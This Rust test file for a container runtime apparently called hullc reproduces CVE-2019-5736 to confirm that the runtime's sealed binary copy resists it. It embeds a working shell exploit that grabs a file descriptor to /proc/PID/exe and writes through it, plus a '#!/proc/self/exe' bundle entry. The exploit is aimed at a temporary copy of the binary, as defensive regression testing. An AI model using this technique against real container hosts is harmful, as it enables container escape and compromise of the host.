//! CVE-2019-5736 reproduced (issue 5): a container whose program is
//! `#!/proc/self/exe` makes the kernel run hullc's own binary inside the
//! container; an attacker there keeps an fd of that process' /proc/PID/exe
//! and, once it has exited, reopens the fd for writing. hullc must run from
//! a copy that cannot be written (exeseal.rs), so the binary stays intact.
//!
//! The attack targets a *copy* of hullc in a temp dir, never the build's
//! binary. The victim is held still by a full pipe on its stderr (its usage
//! error blocks there) until the attacker has its fd.

mod common;

use std::fs;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use common::{Bundle, Hullc};
use serde_json::json;

/// The attacker: $1 is the victim's pid, or empty to find the first
/// process whose exe is not busybox. Grabs /proc/PID/exe, waits for the
/// victim to be gone, then tries to write through the fd (retrying while
/// the file is busy, as the original exploit does until runc exits).
const ATTACK: &str = r#"
p=$1
while [ -z "$p" ]; do
  for d in /proc/[0-9]*; do
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in ""|/bin/busybox) continue ;; esac
    p=${d#/proc/}; break
  done
  [ -n "$p" ] || sleep 0.05
done
until readlink /proc/$p/exe >/dev/null 2>&1; do sleep 0.05; done
exec 4</proc/$p/exe
echo "$p $(readlink /proc/self/fd/4)" >/tmp/grabbed
while readlink /proc/$p/exe >/dev/null 2>&1; do sleep 0.05; done
i=0
while :; do
  if printf PWNED 2>/tmp/err 1<>/proc/self/fd/4; then echo written >/tmp/result; break; fi
  if grep -q busy /tmp/err && [ $i -lt 200 ]; then i=$((i+1)); sleep 0.05; continue; fi
  echo "refused: $(cat /tmp/err)" >/tmp/result; break
done
sleep 1000
"#;

/// A copy of hullc in its own temp dir: the attack's target.
struct Target {
    _dir: Option<tempfile::TempDir>,
    path: PathBuf,
    original: Vec<u8>,
}

impl Target {
    fn new() -> Target {
        let dir = tempfile::Builder::new()
            .prefix("hullc-exe-")
            .tempdir()
            .expect("tempdir");
        let mut t = Target::in_dir(dir.path());
        t._dir = Some(dir);
        t
    }

    /// The copy in `dir`, e.g. the harness' scratch dir: that is the parent
    /// of the state root, and overlayfs refuses nested layers, so hullc falls
    /// back to its sealed memfd copy.
    fn in_dir(dir: &Path) -> Target {
        let path = dir.join("hullc");
        fs::copy(common::HULLC, &path).expect("copy hullc");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("chmod");
        let original = fs::read(&path).expect("read copy");
        Target {
            _dir: None,
            path,
            original,
        }
    }

    fn cmd(&self, h: &Hullc, args: &[&str], out: &str) -> Command {
        let mut c = Command::new(&self.path);
        c.arg("--root").arg(h.root()).args(args);
        c.env("HULL_TEST_TAG", &h.tag).stdin(Stdio::null());
        let f = fs::File::create(h.scratch().join(out)).expect("output file");
        c.stdout(f.try_clone().expect("dup")).stderr(f);
        c
    }

    #[track_caller]
    fn assert_intact(&self) {
        let now = fs::read(&self.path).expect("read copy");
        assert!(
            now == self.original,
            "the container wrote to hullc's binary (first bytes now {:?})",
            &now[..8.min(now.len())]
        );
    }
}

/// The bundle: busybox, the dynamic loader and libraries hullc needs (so
/// the kernel can run it in the container), `/evil` = `#!/proc/self/exe`
/// and `/attack.sh`.
fn bundle(h: &Hullc, t: &Target) -> Bundle {
    let b = Bundle::new(h);
    let ldd = Command::new("ldd").arg(&t.path).output().expect("ldd");
    for lib in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let dst = b.rootfs().join(lib.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().expect("lib dir")).expect("mkdir lib dir");
        fs::copy(lib, &dst).expect("copy library");
    }
    let evil = b.rootfs().join("evil");
    fs::write(&evil, "#!/proc/self/exe\n").expect("write /evil");
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).expect("chmod /evil");
    fs::write(b.rootfs().join("attack.sh"), ATTACK).expect("write /attack.sh");
    b
}

/// A pipe whose buffer is full: a process writing to it blocks until we
/// drain it.
fn full_pipe() -> (fs::File, OwnedFd) {
    let (r, w) = nix::unistd::pipe().expect("pipe");
    let set_nonblock = |on: bool| {
        let flags = if on { libc::O_NONBLOCK } else { 0 };
        // SAFETY: fcntl(F_SETFL) on our own pipe fd.
        unsafe { libc::fcntl(w.as_raw_fd(), libc::F_SETFL, flags) };
    };
    set_nonblock(true);
    let mut wf = fs::File::from(w.try_clone().expect("dup"));
    let page = [b'x'; 4096];
    while wf.write(&page).is_ok() {}
    while wf.write(&page[..1]).is_ok() {}
    set_nonblock(false);
    (fs::File::from(r), w)
}

fn wait_file(p: &Path, what: &str) -> String {
    common::wait_until(what, Duration::from_secs(30), || p.exists());
    // Written with one echo; give it a moment to be complete.
    std::thread::sleep(Duration::from_millis(50));
    fs::read_to_string(p).unwrap_or_default()
}

/// Reads the pipe to EOF in the background (frees the blocked victim).
fn drain(mut r: fs::File) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut sink = Vec::new();
        let _ = r.read_to_end(&mut sink);
    })
}

#[track_caller]
fn assert_refused(b: &Bundle, t: &Target) {
    let result = wait_file(&b.rootfs().join("tmp/result"), "the attacker's result");
    assert!(
        result.starts_with("refused"),
        "the attacker could write through /proc/PID/exe: {result}"
    );
    t.assert_intact();
}

/// `hullc exec ID /evil`: the exec'd process becomes hullc in the
/// container; init (the attacker) finds it, grabs its exe, waits, writes.
#[test]
fn exec_of_proc_self_exe_cannot_write_the_binary() {
    let h = Hullc::new();
    let t = Target::new();
    let grabbed = exec_attack(&h, &t);
    assert!(
        grabbed.ends_with(" /hullc"),
        "not the overlay copy: {grabbed}"
    );
}

/// The same with the memfd fallback (overlayfs impossible for this layout).
#[test]
fn exec_of_proc_self_exe_cannot_write_the_binary_memfd() {
    let h = Hullc::new();
    let t = Target::in_dir(h.scratch());
    let grabbed = exec_attack(&h, &t);
    assert!(
        grabbed.contains(" /memfd:hullc"),
        "not the memfd copy: {grabbed}"
    );
}

/// Runs the exec attack against `t`; returns "PID LINK" of what was grabbed.
fn exec_attack(h: &Hullc, t: &Target) -> String {
    let mut b = bundle(h, t);
    b.args(&["sh", "/attack.sh"]);
    b.save();
    let id = h.id("cve5736e");
    h.track(&id);
    let bundle = b.path().to_str().expect("utf-8");
    let st = t
        .cmd(h, &["run", "-d", "-b", bundle, &id], "run.out")
        .status()
        .expect("run");
    assert!(st.success(), "hullc run -d failed");
    let (r, w) = full_pipe();
    let mut exec = t.cmd(h, &["exec", &id, "/evil"], "exec.out");
    exec.stdout(Stdio::from(w.try_clone().expect("dup")))
        .stderr(Stdio::from(w));
    let mut victim = exec.spawn().expect("spawn exec");
    drop(exec); // its copies of the pipe's write end
    let grabbed = wait_file(&b.rootfs().join("tmp/grabbed"), "the attacker's fd");
    let drained = drain(r);
    assert_refused(&b, t);
    let _ = victim.wait();
    drained.join().expect("drain");
    h.cmd(&["delete", "--force", &id]).ok();
    common::assert_clean(h, &b, &[&id]);
    grabbed.trim().to_string()
}

/// The container's init is `/evil`: hullc's binary runs as the container's
/// first process. No pid namespace, so that the attacker (exec'd) outlives
/// it and can try its write afterwards.
#[test]
fn init_of_proc_self_exe_cannot_write_the_binary() {
    let h = Hullc::new();
    let t = Target::new();
    let mut b = bundle(&h, &t);
    b.remove_namespace("pid");
    b.args(&["/evil"]);
    b.config["process"]["env"]
        .as_array_mut()
        .expect("env")
        .push(json!("PATH=/bin"));
    b.save();
    let id = h.id("cve5736i");
    h.track(&id);
    let bundle = b.path().to_str().expect("utf-8");
    let (r, w) = full_pipe();
    let mut run = t.cmd(&h, &["run", "-d", "-b", bundle, &id], "run.out");
    run.stdout(Stdio::from(w.try_clone().expect("dup")))
        .stderr(Stdio::from(w));
    let st = run.status().expect("run");
    drop(run); // its copies of the pipe's write end
    assert!(st.success(), "hullc run -d failed");
    let pid = h.state(&id)["pid"].as_i64().expect("pid").to_string();
    let st = t
        .cmd(
            &h,
            &["exec", "-d", &id, "sh", "/attack.sh", &pid],
            "exec.out",
        )
        .status()
        .expect("exec");
    assert!(st.success(), "hullc exec -d failed");
    wait_file(&b.rootfs().join("tmp/grabbed"), "the attacker's fd");
    let drained = drain(r);
    assert_refused(&b, &t);
    drained.join().expect("drain");
    h.cmd(&["delete", "--force", &id]).ok();
    common::assert_clean(&h, &b, &[&id]);
}
